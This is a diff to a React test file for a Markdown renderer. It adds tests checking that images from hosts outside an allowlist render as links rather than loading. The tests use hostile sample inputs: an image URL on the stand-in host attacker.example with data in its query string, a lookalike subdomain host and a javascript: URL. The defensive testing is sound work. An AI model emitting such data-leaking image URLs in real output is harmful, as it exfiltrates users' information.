@@ -1,8 +1,17 @@
 import { act, cleanup, fireEvent, render, screen, waitFor } from '@testing-library/react';
 import { afterEach, describe, expect, it, vi } from 'vitest';
 import { Markdown, SourcesList } from '../src/components/markdown';
+import { loadRuntimeConfig } from '../src/lib/runtime-config';
 
-afterEach(cleanup);
+/** The hosts `/app-config.json` names as `imageHosts` (the server's `image_proxy.allowed_hosts`). */
+async function allowImageHosts(imageHosts: string[]) {
+  await loadRuntimeConfig((async () => Response.json({ imageHosts })) as unknown as typeof fetch);
+}
+
+afterEach(async () => {
+  cleanup();
+  await allowImageHosts([]);
+});
 
 function renderMd(content: string, props: Partial<Parameters<typeof Markdown>[0]> = {}) {
   return render(<Markdown content={content} {...props} />).container;
@@ -59,7 +68,8 @@ describe('Markdown sanitising', () => {
     expect(onLinkClick).toHaveBeenCalledWith('https://example.com/go', expect.anything());
   });
 
-  it('renders markdown images with SmartImage, dropping unsafe sources', () => {
+  it('renders markdown images with SmartImage, dropping unsafe sources', async () => {
+    await allowImageHosts(['img.example.com']);
     const html = renderMd('![cat](https://img.example.com/cat.png)\n\n![bad](javascript:alert(1))');
     const imgs = html.querySelectorAll('img');
     expect(imgs).toHaveLength(1);
@@ -67,6 +77,47 @@ describe('Markdown sanitising', () => {
     expect(imgs[0]?.getAttribute('loading')).toBe('lazy');
     expect(imgs[0]?.closest('.smart-image')).not.toBeNull();
     expect(html.textContent).toContain('bad');
+  });
+});
+
+describe('Markdown images from other hosts', () => {
+  it('never loads an image from a host that is not allowed, showing a link to open instead', async () => {
+    await allowImageHosts(['img.example.com', '*.cdn.example.com']);
+    const leak = 'https://attacker.example/p.png?d=%E5%B7%A5%E8%B5%84';
+    const onLinkClick = vi.fn((_href: string, event: { preventDefault(): void }) => event.preventDefault());
+    const html = renderMd(
+      `![x](${leak})\n\n![](https://cdn.example.com/a.png)\n\n![c](https://img.example.com.attacker.example/c.png)`,
+      { onLinkClick },
+    );
+    expect(html.querySelector('img')).toBeNull();
+    const links = [...html.querySelectorAll<HTMLAnchorElement>('a.md-image-link')];
+    expect(links.map((a) => a.getAttribute('href'))).toEqual([
+      leak,
+      'https://cdn.example.com/a.png',
+      'https://img.example.com.attacker.example/c.png',
+    ]);
+    expect(links.map((a) => a.textContent)).toEqual(['图片：x', '图片：cdn.example.com', '图片：c']);
+    expect(links[0]?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
+    fireEvent.click(links[0]!);
+    expect(onLinkClick).toHaveBeenCalledWith(leak, expect.anything());
+  });
+
+  it('loads images from the allowed hosts and our own origin', async () => {
+    await allowImageHosts(['img.example.com', '*.cdn.example.com']);
+    const own = `${window.location.origin}/api/app/icon?id=1`;
+    const html = renderMd(`![a](https://img.example.com/a.png) ![b](https://eu.cdn.example.com/b.png) ![c](${own})`);
+    expect([...html.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([
+      'https://img.example.com/a.png',
+      'https://eu.cdn.example.com/b.png',
+      own,
+    ]);
+    expect(html.querySelector('a.md-image-link')).toBeNull();
+  });
+
+  it('loads none by default', () => {
+    const html = renderMd('![cat](https://img.example.com/cat.png)');
+    expect(html.querySelector('img')).toBeNull();
+    expect(html.querySelector('a.md-image-link')?.textContent).toBe('图片：cat');
   });
 });
 
